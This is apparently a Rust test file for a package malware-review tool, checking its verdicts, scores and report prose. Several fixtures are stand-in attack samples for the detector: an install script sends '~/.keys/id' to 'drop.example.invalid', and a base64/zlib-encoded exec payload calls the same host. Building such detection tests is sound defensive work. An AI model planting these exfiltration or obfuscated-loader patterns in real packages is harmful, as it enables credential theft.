//! Reviews of facts made by hand.

mod builder;
mod client;

use std::collections::BTreeSet;

use sluice_catalog::behavior::Body;
use sluice_catalog::{Behavior, Catalog, Classes, Rule, Stance};
use sluice_flow::facts::*;

use crate::matcher::{Findings, Match, MatchedStep};
use crate::model::{Coverage, Effect, Polarity, Unread};
use crate::package::{EntryPoint, PackageInfo, PackageKind};
use crate::{Review, Verdict, Weights, review_matches};
use builder::{Builder, text};
use client::client;

fn file_info() -> PackageInfo {
    PackageInfo { target: "client.py".to_owned(), kind: PackageKind::File, ..PackageInfo::default() }
}

fn reviewed(facts: &Facts) -> Review {
    reviewed_as(&file_info(), facts, &[], Vec::new())
}

fn reviewed_as(package: &PackageInfo, facts: &Facts, behaviors: &[Behavior], matches: Vec<Match>) -> Review {
    let catalog = Catalog::default().with_behaviors(behaviors.to_vec(), Classes::default());
    let weights = Weights::embedded().unwrap();
    review_matches(package, facts, &catalog, &weights, &Findings { matches, exhausted: Vec::new() })
}

fn behavior(id: &str, stance: Stance, specificity: f64) -> Behavior {
    Behavior {
        id: id.into(),
        title: "Credentials are sent to a fixed address".to_owned(),
        stance,
        specificity,
        severity: 0.9,
        attack: vec!["T1041".into()],
        cwe: Vec::new(),
        sentence: String::new(),
        advice: "Do not install it; change every credential of the machine".to_owned(),
        rules: vec![Rule::default()],
        body: Body::plain("", 1),
    }
}

/// A script that sends a credential file to a fixed address on install, and the match on it.
fn thief() -> (Facts, Match) {
    let code = "import kit\n\nkept = kit.read('~/.keys/id')\nkit.push('https://drop.example.invalid/in', kept)\n";
    let mut builder = Builder::new("setup.py", code);
    builder.facts.modules[0].when = BTreeSet::from(["install".into()]);
    let top = FunctionId(0);
    let read = builder.event(top, "kit.read('~/.keys/id')", "kit.read", &["file.read"]);
    builder.event_mut(read).source = Some("file.credential".into());
    builder.event_mut(read).when = BTreeSet::from(["install".into()]);
    builder.arg(read, "path", &["file.path"], "'~/.keys/id'", text("~/.keys/id"));
    let push =
        builder.event(top, "kit.push('https://drop.example.invalid/in', kept)", "kit.push", &["network.request"]);
    builder.event_mut(push).when = BTreeSet::from(["install".into()]);
    builder.arg(
        push,
        "url",
        &["network.destination"],
        "'https://drop.example.invalid/in'",
        text("https://drop.example.invalid/in"),
    );
    builder.arg(push, "data", &["network.send"], "kept)", builder::shaped("`kept`"));
    let path = builder.path(("file.credential", "kit.read", top, Some(read)), ("network.send", push, "data"), &[]);
    let evidence = vec![builder.facts.events[0].evidence, builder.facts.events[1].evidence];
    let found = Match {
        behavior: "exfiltration/credentials".into(),
        rule: "".into(),
        steps: vec![MatchedStep { name: "send".into(), path: Some(path), event: Some(push) }],
        evidence,
        sentence: "The credential file `~/.keys/id` is sent to `drop.example.invalid` (4)".to_owned(),
        gist: "sends the credential file `~/.keys/id` to `https://drop.example.invalid/in`".to_owned(),
        presumed: false,
        count: 1,
    };
    (builder.facts, found)
}

#[test]
fn a_client_is_told_as_it_is() {
    let review = reviewed(&client());
    let report = &review.report;
    let told = format!(
        "purpose: {}\nsources: {}\nsinks: {}\nflows: {}\nanomalies: {}\nanalysis: {}\nconclusion: {}\n{:?}",
        report.purpose,
        report.sources,
        report.sinks,
        report.flows,
        report.anomalies,
        report.analysis,
        report.conclusion,
        report.numbers(),
    );
    let expected = include_str!("client.txt");
    assert_eq!(told.trim(), expected.trim(), "\n{told}\n");
}

#[test]
fn without_the_lost_store_nothing_is_said_of_it() {
    let mut facts = client();
    facts.dead_stores.clear();
    let (with, without) = (reviewed(&client()).report, reviewed(&facts).report);
    assert!(with.anomalies.contains("`relay` goes nowhere"), "{}", with.anomalies);
    assert!(!without.anomalies.contains("relay"), "{}", without.anomalies);
    for (field, left, right) in [
        ("purpose", &with.purpose, &without.purpose),
        ("sources", &with.sources, &without.sources),
        ("sinks", &with.sinks, &without.sinks),
        ("flows", &with.flows, &without.flows),
        ("analysis", &with.analysis, &without.analysis),
    ] {
        assert_eq!(left, right, "{field}");
    }
}

#[test]
fn without_the_log_line_nothing_reaches_the_log() {
    let mut facts = client();
    facts.events.retain(|event| event.written != "log.debug");
    facts.paths.retain(|path| path.sink.kind != "log");
    let report = reviewed(&facts).report;
    assert!(!format!("{report:?}").to_lowercase().contains("log.debug"), "{report:?}");
    assert!(!report.sinks.contains("Log:"), "{}", report.sinks);
    assert!(!report.conclusion.contains("log"), "{}", report.conclusion);
}

#[test]
fn every_positive_claim_has_a_place_and_every_id_resolves() {
    let review = reviewed(&client());
    assert!(review.claims.len() > 10);
    for claim in &review.claims {
        for id in &claim.evidence {
            assert!(review.evidence(id).is_some(), "{claim:?}");
        }
        let bare = ["conclusion.", "purpose.", "none."].iter().any(|kind| claim.kind.starts_with(kind));
        if claim.polarity == Polarity::Positive && !bare {
            assert!(!claim.evidence.is_empty(), "{claim:?}");
        }
    }
    for path in &review.paths {
        assert_eq!(path.steps.len(), path.words.len());
        assert!(path.steps.iter().all(|id| review.evidence(id).is_some()), "{path:?}");
    }
    let fields: Vec<&str> =
        review.report.prose().iter().filter(|(_, text)| text.is_empty()).map(|(name, _)| *name).collect();
    assert!(fields.is_empty(), "{fields:?}");
}

#[test]
fn each_reviewer_writes_a_complete_report() {
    let review = reviewed(&client());
    let numbers: Vec<u32> = review.panel.reports.iter().map(|report| report.report.report_number).collect();
    assert_eq!(numbers, [1, 2, 3]);
    for report in &review.panel.reports {
        for (field, text) in report.report.prose() {
            assert!(!text.is_empty(), "{} says nothing of {field}", report.reviewer);
        }
    }
    assert!(numbers.contains(&review.report.report_number));
}

#[test]
fn the_same_facts_give_the_same_bytes() {
    let facts = client();
    assert_eq!(reviewed(&facts).to_json().unwrap(), reviewed(&facts).to_json().unwrap());
}

#[test]
fn the_json_reads_back() {
    let review = reviewed(&client());
    let back: Review = serde_json::from_str(&review.to_json().unwrap()).unwrap();
    assert_eq!(back, review);
}

#[test]
fn a_proven_chain_convicts_and_the_prose_says_so() {
    let (facts, found) = thief();
    let review = reviewed_as(
        &file_info(),
        &facts,
        &[behavior("exfiltration/credentials", Stance::Malicious, 0.97)],
        vec![found],
    );
    assert_eq!(review.verdict, Verdict::Malicious);
    assert!(review.report.malware >= 0.9, "{:?}", review.report);
    assert!(review.report.security_risk >= 0.9);
    for part in
        ["Malicious: on install, it sends", "`~/.keys/id`", "`https://drop.example.invalid/in`", "Do not install it"]
    {
        assert!(review.report.conclusion.contains(part), "{part}: {}", review.report.conclusion);
    }
    assert!(
        review.report.anomalies.starts_with("The credential file `~/.keys/id` is sent"),
        "{}",
        review.report.anomalies
    );
    assert_eq!(review.report.report_number, 3);
    let claim = review.claims.iter().find(|claim| claim.kind == "behavior.malicious").unwrap();
    assert!(
        review.scores.malware.iter().any(|change| change.claim == claim.id && change.change > 4.0),
        "{:?}",
        review.scores
    );
    let sum = review.scores.malware_log_odds();
    assert!((1.0 / (1.0 + (-sum).exp()) - review.report.malware).abs() < 0.011, "{sum}");
}

#[test]
fn a_presumed_link_convicts_nobody() {
    let (facts, mut found) = thief();
    found.presumed = true;
    let review = reviewed_as(
        &file_info(),
        &facts,
        &[behavior("exfiltration/credentials", Stance::Malicious, 0.97)],
        vec![found],
    );
    assert_eq!(review.verdict, Verdict::Benign);
    assert!(review.report.malware < 0.1, "{:?}", review.report);
    assert!(review.report.anomalies.contains("Presumably"), "{}", review.report.anomalies);
    assert!(review.report.conclusion.contains("before you trust it"), "{}", review.report.conclusion);
}

#[test]
fn an_unproven_chain_has_no_floor() {
    let (mut facts, found) = thief();
    let catalog = [behavior("exfiltration/credentials", Stance::Malicious, 0.97)];
    let proven = reviewed_as(&file_info(), &facts, &catalog, vec![found.clone()]);
    facts.paths[0].proven = false;
    let open = reviewed_as(&file_info(), &facts, &catalog, vec![found]);
    assert!(open.report.malware < proven.report.malware, "{} {}", open.report.malware, proven.report.malware);
    assert!(
        open.panel
            .critiques
            .iter()
            .any(|critique| critique.by == "confirmation" && critique.effect == Effect::Weakened)
    );
}

#[test]
fn an_innocent_explanation_halves_the_charge() {
    let (facts, found) = thief();
    let innocent = Match { behavior: "ordinary/upload".into(), ..found.clone() };
    let catalog = [
        behavior("exfiltration/credentials", Stance::Malicious, 0.8),
        behavior("ordinary/upload", Stance::Harmless, 0.9),
    ];
    let alone = reviewed_as(&file_info(), &facts, &catalog, vec![found.clone()]);
    let explained = reviewed_as(&file_info(), &facts, &catalog, vec![found, innocent]);
    assert!(explained.scores.malware_log_odds() < alone.scores.malware_log_odds() - 1.0);
    assert!(explained.panel.critiques.iter().any(|critique| critique.by == "innocence"));
}

#[test]
fn a_behavior_counts_once_however_often_it_is_found() {
    let (facts, found) = thief();
    let catalog = [behavior("exfiltration/credentials", Stance::Malicious, 0.8)];
    let once = reviewed_as(&file_info(), &facts, &catalog, vec![found.clone()]);
    let often = reviewed_as(&file_info(), &facts, &catalog, vec![found.clone(), found.clone(), found]);
    assert!((once.scores.malware_log_odds() - often.scores.malware_log_odds()).abs() < 1e-9);
}

#[test]
fn an_ended_evaluation_matters_where_its_result_is_executed() {
    let mut builder = Builder::new("run.py", "import pack\nexec(pack.open('eJwr'))\n");
    let run = builder.event(FunctionId(0), "exec(pack.open('eJwr'))", "exec", &["code.execute"]);
    builder.event_mut(run).when = BTreeSet::from(["import".into()]);
    builder.facts.limits.push(LimitHit {
        module: ModuleId(0),
        budget: "evaluation steps".into(),
        what: "some values were not evaluated".to_owned(),
    });
    assert_eq!(reviewed(&builder.facts).verdict, Verdict::Benign);
    let evidence = builder.facts.events[0].evidence;
    builder.facts.unopened.push(Unopened {
        event: run,
        evidence,
        why: "the text was not evaluated".to_owned(),
        labels: BTreeSet::new(),
    });
    let review = reviewed(&builder.facts);
    assert_eq!(review.verdict, Verdict::Inconclusive);
    assert!(review.report.conclusion.contains("the budget of evaluation steps ended"), "{}", review.report.conclusion);
}

#[test]
fn the_asked_prior_moves_the_probability() {
    let (facts, found) = thief();
    let behaviors = vec![behavior("exfiltration/credentials", Stance::Malicious, 0.8)];
    let catalog = Catalog::default().with_behaviors(behaviors, Classes::default());
    let findings = Findings { matches: vec![found], exhausted: Vec::new() };
    let at = |prior: f64| {
        let weights = Weights::embedded().unwrap().with_prior(prior).unwrap();
        review_matches(&file_info(), &facts, &catalog, &weights, &findings).report.malware
    };
    assert!(at(0.001) < at(0.01) && at(0.01) < at(0.5), "{} {} {}", at(0.001), at(0.01), at(0.5));
}

#[test]
fn unread_code_makes_the_review_inconclusive() {
    let mut package = file_info();
    package.coverage = Coverage {
        files: 1,
        unread: vec![Unread {
            file: "parcels/client.py".to_owned(),
            why: "longer than 50 MB".to_owned(),
            matters: true,
        }],
        ..Coverage::default()
    };
    let review = reviewed_as(&package, &client(), &[], Vec::new());
    assert_eq!(review.verdict, Verdict::Inconclusive);
    assert!(review.report.confidence <= 0.6, "{}", review.report.confidence);
    assert!(review.report.conclusion.contains("lower bounds"), "{}", review.report.conclusion);
    assert!(review.report.conclusion.starts_with("Not decided"), "{}", review.report.conclusion);
    let absence = review.claims.iter().find(|claim| claim.kind == "absence").unwrap();
    assert!(absence.text.starts_with("In what was read:"), "{}", absence.text);
    package.coverage.unread[0].matters = false;
    assert_eq!(reviewed_as(&package, &client(), &[], Vec::new()).verdict, Verdict::Benign);
}

#[test]
fn a_credential_in_the_code_is_not_denied() {
    let mut facts = client();
    let key = "KEY = 'ghp_0123456789abcdefghijklmnopqrstuvwxyzAB'\n";
    facts.modules[0].text = format!("{}{key}", facts.modules[0].text).into();
    let review = reviewed(&facts);
    assert!(review.report.anomalies.contains("looks like a credential (32)"), "{}", review.report.anomalies);
    assert!(!review.report.anomalies.contains("no hard-coded credential"), "{}", review.report.anomalies);
    assert!(review.report.anomalies.contains("no dynamic execution"), "{}", review.report.anomalies);
}

#[test]
fn hidden_code_is_obfuscated_code() {
    let mut builder = Builder::new("run.py", "import pack\nexec(pack.open('eJwr'))\n");
    let run = builder.event(FunctionId(0), "exec(pack.open('eJwr'))", "exec", &["code.execute"]);
    let site = builder.facts.events[0].evidence;
    let body =
        builder.layer(site, run, &["base64", "zlib"], "kit.push('https://drop.example.invalid/in')\nkit.stay()\n");
    let push = builder.event(body, "kit.push('https://drop.example.invalid/in')", "kit.push", &["network.request"]);
    builder.event(body, "kit.stay()", "kit.stay", &["registry.write"]);
    let _ = push;
    let review = reviewed(&builder.facts);
    assert!(review.report.obfuscated >= 0.5, "{:?}", review.report);
    assert!(
        review.report.anomalies.contains("Hidden: Python code is decoded by `base64` and `zlib`"),
        "{}",
        review.report.anomalies
    );
    assert!(!review.report.anomalies.contains("Nothing is hidden"), "{}", review.report.anomalies);
    assert!(review.report.sinks.contains("`kit.push()` (2, one layer deep in line 1)"), "{}", review.report.sinks);
    assert_eq!(review.layers[0].codings, ["base64", "zlib"]);
    let place = review.evidence.iter().find(|evidence| evidence.text.starts_with("kit.push")).unwrap();
    assert_eq!(place.layer.as_deref(), Some("l1"));
    let plain = reviewed(&client());
    assert_eq!(plain.report.obfuscated, 0.0);
}

#[test]
fn what_the_top_level_calls_is_an_effect_of_import() {
    let code = "import kit\n\nline = kit.Line()\n\ndef tell(text):\n    line.push('https://a.example.invalid', text)\n\ntell('x')\n";
    let facts = |called: bool| {
        let mut builder = Builder::new("tell.py", code);
        let top = FunctionId(0);
        let tell = builder.function("tell", &["text"]);
        let line = builder.event(top, "kit.Line()", "kit.Line", &[]);
        builder.event_mut(line).result = vec![3];
        let push =
            builder.event(tell, "line.push('https://a.example.invalid', text)", "kit.Line.push", &["network.request"]);
        builder.arg(push, "url", &["network.destination"], "'https://a", text("https://a.example.invalid"));
        builder.event_mut(push).receiver = Some(ValueFact { tokens: vec![3], ..builder::shaped("`line`") });
        if called {
            let place = builder.at("tell('x')");
            builder.facts.functions[0].calls.push((tell, place));
        }
        builder.facts
    };
    let quiet = reviewed(&facts(false)).report.analysis;
    assert!(quiet.contains("Importing it makes a `kit.Line` (3) and sends nothing."), "{quiet}");
    let loud = reviewed(&facts(true)).report.analysis;
    assert!(loud.contains("calls `line.push()` (6)"), "{loud}");
    assert!(!loud.contains("sends nothing"), "{loud}");
}

#[test]
fn a_package_is_never_better_than_its_worst_file() {
    let (mut facts, found) = thief();
    // A second, empty file makes it a package of two.
    let mut builder = Builder::from(facts);
    builder.file("parcels/__init__.py", "VERSION = '1'\n");
    facts = builder.facts;
    let package = PackageInfo {
        kind: PackageKind::Package,
        name: Some("parcels".to_owned()),
        version: Some("1.0".to_owned()),
        summary: Some("Deliveries.".to_owned()),
        entry_points: vec![EntryPoint {
            when: "install".to_owned(),
            file: Some("setup.py".to_owned()),
            ..EntryPoint::default()
        }],
        ..PackageInfo::default()
    };
    let review =
        reviewed_as(&package, &facts, &[behavior("exfiltration/credentials", Stance::Malicious, 0.97)], vec![found]);
    assert_eq!(review.files.len(), 2);
    let worst = review.files.iter().map(|file| file.report.malware).fold(0.0, f64::max);
    assert!(review.report.malware >= worst && worst > 0.5);
    assert!(
        review.report.purpose.contains("`parcels` 1.0 says of itself: \"Deliveries\""),
        "{}",
        review.report.purpose
    );
    assert!(review.report.analysis.contains("On install, `setup.py` runs"), "{}", review.report.analysis);
    let clean = review.files.iter().find(|file| file.file == "parcels/__init__.py").unwrap();
    assert_eq!(clean.verdict, Verdict::Benign);
    for file in &review.files {
        for claim in &file.claims {
            assert!(
                claim.id.starts_with('f') && claim.evidence.iter().all(|id| review.evidence(id).is_some()),
                "{claim:?}"
            );
        }
    }
}

#[test]
fn conclusions_and_verdicts_agree() {
    let (facts, found) = thief();
    for specificity in [0.05, 0.3, 0.5, 0.6, 0.7, 0.8, 0.85, 0.9, 0.95, 0.99] {
        for proven in [true, false] {
            let mut facts = facts.clone();
            facts.paths[0].proven = proven;
            let catalog = [behavior("exfiltration/credentials", Stance::Malicious, specificity)];
            let review = reviewed_as(&file_info(), &facts, &catalog, vec![found.clone()]);
            let malicious = review.report.malware >= 0.5;
            assert_eq!(malicious, review.verdict == Verdict::Malicious);
            assert_eq!(malicious, review.report.conclusion.starts_with("Malicious"), "{}", review.report.conclusion);
            assert!(malicious || !review.report.conclusion.to_lowercase().contains("malicious"));
            for report in &review.panel.reports {
                assert_eq!(
                    report.report.malware >= 0.5,
                    report.report.conclusion.starts_with("Malicious"),
                    "{report:?}"
                );
            }
            let right = if malicious { review.report.malware } else { 1.0 - review.report.malware };
            assert!(review.report.confidence <= right + 0.011, "{:?}", review.report);
        }
    }
}

#[test]
fn an_empty_target_is_reviewed() {
    let review = reviewed(&Facts::default());
    assert_eq!(review.verdict, Verdict::Benign);
    assert!(review.report.prose().iter().all(|(_, text)| !text.is_empty()), "{:?}", review.report);
}
